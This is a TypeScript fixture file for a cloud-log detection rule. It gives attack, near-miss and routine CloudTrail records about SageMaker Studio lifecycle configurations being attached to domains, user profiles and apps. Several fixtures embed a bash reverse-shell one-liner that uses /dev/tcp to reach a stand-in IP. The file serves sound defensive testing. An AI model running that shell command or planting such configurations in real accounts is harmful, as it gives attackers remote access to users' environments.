// Records for this rule: attacks it flags, benign look-alikes it leaves alone (test/unit/classify/rule-fixtures.test.ts).
import { ACCOUNT, at, b64, fromConsole, rec, type RuleFixtures } from '../fixture-kit.js';

const DOMAIN = 'd-exampledom01';
const lccArn = (name: string) => `arn:aws:sagemaker:us-east-1:${ACCOUNT}:studio-lifecycle-config/${name}`;
const createLcc = (name: string, script: string, over = {}) =>
  rec('CreateStudioLifecycleConfig', { studioLifecycleConfigName: name, studioLifecycleConfigAppType: 'JupyterLab', studioLifecycleConfigContent: b64(script) }, {
    ...at('10:00:00'),
    responseElements: { studioLifecycleConfigArn: lccArn(name) },
    ...over,
  });
/** UpdateDomain making `name` every JupyterLab app's default configuration. */
const attachToDomain = (name: string, over = {}) =>
  rec('UpdateDomain', {
    domainId: DOMAIN,
    defaultUserSettings: { jupyterLabAppSettings: { defaultResourceSpec: { lifecycleConfigArn: lccArn(name), instanceType: 'ml.t3.medium' }, lifecycleConfigArns: [lccArn(name)] } },
  }, { ...at('10:20:00'), ...over });

const REVERSE_SHELL = '#!/bin/bash\nnohup bash -c "bash -i >& /dev/tcp/198.51.100.7/443 0>&1" &\n';
const PIP_SETUP = '#!/bin/bash\npip install --quiet jupyterlab-git==0.50.1\n';

export default {
  attack: [
    { name: 'a reverse-shell configuration created, then made the domain\'s default', records: [attachToDomain('jl-helper'), createLcc('jl-helper', REVERSE_SHELL)] },
    { name: 'an innocuous-looking configuration created and attached to a user profile by one principal', records: [
      createLcc('jl-tools', PIP_SETUP),
      rec('UpdateUserProfile', { domainId: DOMAIN, userProfileName: 'maria-garcia', userSettings: { jupyterLabAppSettings: { lifecycleConfigArns: [lccArn('jl-tools')] } } }, at('10:05:00')),
    ] },
    { name: 'an app started with a reverse-shell configuration', records: [
      createLcc('jl-helper', REVERSE_SHELL),
      rec('CreateApp', { domainId: DOMAIN, spaceName: 'fraud-team', appType: 'JupyterLab', appName: 'default', resourceSpec: { instanceType: 'ml.t3.medium', lifecycleConfigArn: lccArn('jl-helper') } }, at('10:07:00')),
    ] },
  ],
  nearMiss: [
    { name: 'an UpdateDomain that changes no lifecycle configuration', records: [rec('UpdateDomain', { domainId: DOMAIN, defaultUserSettings: { jupyterLabAppSettings: { defaultResourceSpec: { instanceType: 'ml.t3.large' } } } })] },
    { name: 'an app started without a lifecycle configuration', records: [rec('CreateApp', { domainId: DOMAIN, userProfileName: 'maria-garcia', appType: 'JupyterLab', appName: 'default', resourceSpec: { instanceType: 'ml.t3.medium' } }, fromConsole)] },
    { name: 'a denied attachment of a reverse-shell configuration', records: [createLcc('jl-helper', REVERSE_SHELL), attachToDomain('jl-helper', { errorCode: 'AccessDeniedException' })] },
  ],
  routine: [
    {
      name: 'an administrator making a reviewed configuration (created before the window) the domain\'s default',
      mirrors: 'a reverse-shell configuration created, then made the domain\'s default',
      records: [attachToDomain('jl-git-setup', fromConsole)],
    },
  ],
} satisfies RuleFixtures;
